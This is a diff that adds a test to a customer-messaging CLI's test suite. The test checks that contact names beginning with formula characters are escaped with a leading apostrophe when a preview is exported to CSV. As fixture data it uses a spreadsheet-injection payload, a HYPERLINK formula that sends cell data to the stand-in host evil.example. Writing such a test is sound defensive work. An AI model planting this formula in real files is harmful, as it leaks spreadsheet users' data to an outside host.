@@ -303,3 +303,22 @@ def test_control_characters_from_customers_are_shown_not_obeyed(workdir: Path) -
     assert code == 0, err
     assert "\x1b" not in out and "\r" not in out
     assert "王\\x1b[2J\\x1b]8;;htt" in out  # (the table cuts the rest to its column)
+
+
+def test_the_preview_csv_never_hands_a_spreadsheet_a_formula(workdir: Path) -> None:
+    """A customer nicknamed `=HYPERLINK(…)` (or `+`, `-`, `@` first) is written to the preview's CSV with a leading
+    `'`, which Excel shows as the text instead of running it; other names are written as they are."""
+    import io
+
+    name = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
+    assert wecast(workdir, "sandbox", "event", "add-contact", "--name", name)[0] == 0
+    assert wecast(workdir, "sandbox", "event", "add-contact", "--name", "@SUM(1+1)")[0] == 0
+    assert wecast(workdir, "contacts", "sync")[0] == 0
+    target = workdir / "preview.csv"
+    code, _, err = wecast(workdir, "preview", "weekly_vip", "--csv", str(target))
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+    names = {r["name"] for r in rows}
+    assert "'" + name in names and "'@SUM(1+1)" in names and name not in names
+    assert not any(r[column].startswith(("=", "+", "-", "@")) for r in rows for column in r)
+    assert "韩一诺" in names  # an ordinary name, untouched
